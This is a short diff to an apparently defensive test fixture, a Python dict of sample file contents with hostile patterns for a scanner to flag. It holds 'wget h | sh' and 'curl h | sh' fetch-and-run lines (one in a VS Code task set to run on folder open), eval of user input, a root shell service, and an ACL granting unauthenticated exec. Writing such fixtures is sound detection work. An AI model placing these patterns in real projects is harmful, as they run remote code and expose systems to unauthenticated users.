@@ -118,6 +118,9 @@ MADE = {
     "a.lua": b"local s = string.char(112, 49)\nload(s)()\nos.execute('wget -qO- h | sh')\n",
     "tool": b"#!/usr/bin/env python3\nimport os\nos.system(eval(input()))\n",
     "init.rc": b"on boot\n setprop a b\n exec - root -- /b\nservice q /bin/sh\n user root\n",
+    "rpcd/acl.d/a.json": b'{"unauthenticated": {"read": {"file": {"/*": ["exec"]}, "uci": ["a"]}}}',
+    ".vscode/tasks.json": b'{"tasks": [{"label": "a", "type": "shell", "command": "curl h | sh",'
+    b' "args": ["-s"], "runOptions": {"runOn": "folderOpen"}}]}',
     "hello.js": b"const {x: y} = require('child_process'); eval(atob('YWxlcnQoMSk=')); y(`a${1}`)",
 }
 
